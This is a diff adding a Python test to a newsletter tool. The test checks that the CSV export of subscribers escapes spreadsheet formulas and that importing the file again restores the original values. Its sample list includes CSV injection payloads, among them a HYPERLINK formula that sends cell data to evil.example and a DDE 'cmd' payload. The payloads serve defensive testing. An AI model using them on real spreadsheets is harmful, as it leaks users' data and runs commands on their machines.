@@ -164,3 +164,43 @@ def test_a_hand_written_entry_without_a_timezone_is_sent_at_the_newsletters_loca
     assert "sent 0," in early.stdout, early.stderr
     due = cli("send", "--due", "--now", "2026-12-07T22:00:00Z", cwd=project)
     assert "issue 2026-12-08: sent 1," in due.stdout, due.stderr
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+    "'=already quoted",
+    "'plain quote",
+]
+
+
+def test_csv_export_cells_never_start_a_formula_and_import_restores_them(in_database, cli, tmp_path):
+    from digest.store import transfer
+
+    readers = [
+        {"email": f"r{n}@example.org", "name": formula, "keywords": [formula.strip(), "ok"]}
+        for n, formula in enumerate(FORMULAS)
+    ]
+    (in_database / "formulas.yaml").write_text(yaml.safe_dump({"subscribers": readers}))
+    first = cli("subscribers", "import", "formulas.yaml", cwd=in_database)
+    assert first.returncode == 0, first.stderr
+    out = cli("subscribers", "export", "--format", "csv", cwd=in_database)
+    assert out.returncode == 0, out.stderr
+    cells = [cell for row in csv.reader(io.StringIO(out.stdout)) for cell in row]
+    risky = [c for c in cells if c.lstrip("'").lstrip(" ").startswith(transfer._FORMULA_START)]
+    assert risky and all(c.startswith("'") for c in risky)  # each shows as text in a spreadsheet
+    assert "'plain quote" in cells  # a quote of the reader's own is left alone
+
+    other = tmp_path / "other"
+    shutil.copytree(in_database, other, ignore=shutil.ignore_patterns(".digest"))
+    (other / "list.csv").write_text(out.stdout)
+    imported = cli("subscribers", "import", "list.csv", cwd=other)
+    assert imported.returncode == 0, imported.stderr
+    assert _listed(other) == _listed(in_database)
+    assert _listed(other)["r0@example.org"].name == FORMULAS[0]
